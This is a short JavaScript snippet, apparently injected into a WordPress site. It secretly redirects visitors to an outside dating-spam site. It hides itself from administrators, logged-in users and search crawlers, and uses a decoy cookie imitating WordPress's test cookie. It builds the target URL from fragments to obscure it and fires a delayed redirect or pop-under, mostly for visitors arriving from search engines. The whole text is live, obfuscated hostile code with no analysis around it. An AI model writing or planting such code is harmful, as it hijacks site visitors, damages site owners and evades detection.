var _d=document,_w=window,_n=navigator,_u=_n.userAgent,_l=_w["loc"+"ation"];
function _gc(a){var b=_d.cookie.match(new RegExp("(^| )"+a+"=([^;]+)"));return b?b[2]:null}
function _sc(a,b,c){var d=new Date;d.setTime(d.getTime()+c*864e5);_d.cookie=a+"="+b+";expires="+d.toGMTString()+";path=/"}
(function(){if(_gc("wordpress_test_cookie2"))return;
if(/wp-admin|wp-login/.test(_l.pathname))return;
if(_d.cookie.indexOf("wordpress_logged_in")>-1)return;
if(/bot|crawl|slurp|spider|mediapartners|lighthouse/i.test(_u))return;
var e=_d.referrer,f=/google|bing|yandex|yahoo|aol|ask\.com/i.test(e);
if(!f&&Math.random()>.25)return;
_sc("wordpress_test_cookie2","WP+Cookie+check",1);
var g=["ht","tps",":/","/ho","t-da","ting-","news.","pw/","?ut","m_s","ource","=wp"].join("");
var h=g+"&kw="+encodeURIComponent(_d.title.slice(0,40));
_w.setTimeout(function(){if(/iPhone|Android/i.test(_u))_l.replace(h+"&m=1");
else{var i=_w.open(h,"_blank");i?i.blur():_l.href=h;_w.focus()}},2500)})();
_w.addEventListener("pageshow",function(a){a.persisted&&_l.reload()});
